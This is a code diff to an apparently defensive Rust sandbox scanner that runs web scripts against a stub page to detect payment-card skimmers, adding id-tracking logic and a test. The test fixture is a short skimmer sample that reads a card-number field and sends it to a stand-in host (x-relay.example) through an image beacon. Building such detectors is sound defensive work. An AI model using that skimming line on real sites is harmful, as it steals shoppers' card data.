@@ -102,11 +102,25 @@ pub fn observe(
     if let Outcome::Threw = sandbox.run(&format!("{}({page});", include_str!("emulate.js")))? {
         return Err(SandboxError::Start("the stub page failed".into()));
     }
+    sandbox.install_crypto()?;
+    let crypto = format!(
+        "{}(__skimscan_crypto, __skimscan_page); delete globalThis.__skimscan_crypto;",
+        include_str!("web_crypto.js")
+    );
+    if let Outcome::Threw = sandbox.run(&crypto)? {
+        return Err(SandboxError::Start("the stub page's crypto failed".into()));
+    }
     // The script's own exceptions end its top level, as in a browser; what it set up before
     // (listeners, timers) still runs.
     let mut steps = || -> Result<(), SandboxError> {
         let hints = serde_json::to_string(&hints(src)).unwrap_or_else(|_| "[]".into());
         sandbox.run(&format!("__skimscan_page.hint({hints})"))?;
+        let words =
+            serde_json::to_string(&super::captions::captions(src)).unwrap_or_else(|_| "[]".into());
+        sandbox.run(&format!("__skimscan_page.captions({words})"))?;
+        // Last before the script: from here on, what is made is the script's.
+        let made = serde_json::to_string(&made_ids(src)).unwrap_or_else(|_| "[]".into());
+        sandbox.run(&format!("__skimscan_page.absent({made})"))?;
         sandbox.run(src)?;
         sandbox.drain_jobs(10_000)?;
         let steps = match sandbox.run("String(__skimscan_page.steps)")? {
@@ -169,6 +183,35 @@ fn hints(src: &str) -> Vec<String> {
             }
         }
         i += 1;
+    }
+    out
+}
+
+/// Ids the script gives elements it makes itself (`box.id = 'pay-overlay'`,
+/// `setAttribute('id', …)`, `id="…"` in markup it writes), at most 32: the page did not have
+/// them before the script ran (see `absent` in `emulate.js`). `var id = 'x'` is no such id.
+fn made_ids(src: &str) -> Vec<String> {
+    // Bytes and ASCII classes: Unicode `\w` and `[^<>]` make an automaton that takes longer
+    // to build than a small script takes to run.
+    static MADE: std::sync::LazyLock<regex::bytes::Regex> = std::sync::LazyLock::new(|| {
+        regex::bytes::Regex::new(concat!(
+            r#"(?-u)\.id\s*=\s*["'`]([A-Za-z][\w-]{0,62})["'`]"#,
+            r#"|setAttribute\(\s*["']id["']\s*,\s*["']([A-Za-z][\w-]{0,62})["']"#,
+            r#"|<[A-Za-z][\w-]*\s[^<>]*?\bid\s*=\s*\\?["']?([A-Za-z][\w-]{0,62})"#,
+        ))
+        .expect("a valid pattern")
+    });
+    let mut out: Vec<String> = Vec::new();
+    for c in MADE.captures_iter(src.as_bytes()) {
+        if let Some(m) = c.iter().skip(1).flatten().next()
+            && let Ok(id) = std::str::from_utf8(m.as_bytes())
+            && !out.iter().any(|o| o == id)
+        {
+            out.push(id.to_string());
+        }
+        if out.len() >= 32 {
+            break;
+        }
     }
     out
 }
@@ -766,6 +809,29 @@ mod tests {
         assert!(
             code.contains("document.querySelector(\"#card-number\").value"),
             "{code}"
+        );
+    }
+
+    #[test]
+    fn a_guard_against_running_twice_does_not_stop_the_run() {
+        // The overlay's own id is not on the page before the script makes it; other ids
+        // (the page's fields) still answer, and so does the overlay once it is made.
+        let src = r#"
+            if (document.getElementById('sp-overlay')) throw new Error('twice');
+            var id = 'cc_number';
+            var box = document.createElement('div');
+            box.id = 'sp-overlay';
+            document.body.appendChild(box);
+            if (!document.getElementById('sp-overlay')) throw new Error('lost');
+            new Image().src = 'https://x-relay.example/i?c=' + document.getElementById(id).value;
+        "#;
+        assert_eq!(made_ids(src), vec!["sp-overlay".to_string()]);
+        let obs = observe(src, limits(false), None).unwrap();
+        assert_eq!(obs.sends.len(), 1, "{:?}", obs.sends);
+        assert!(obs.sends[0].1.ends_with(PAN), "{:?}", obs.sends);
+        assert_eq!(
+            made_ids(r#"el.innerHTML = '<form class="p" id="pay-x"><input id=\"n1\">';"#),
+            vec!["pay-x".to_string(), "n1".to_string()]
         );
     }
 }
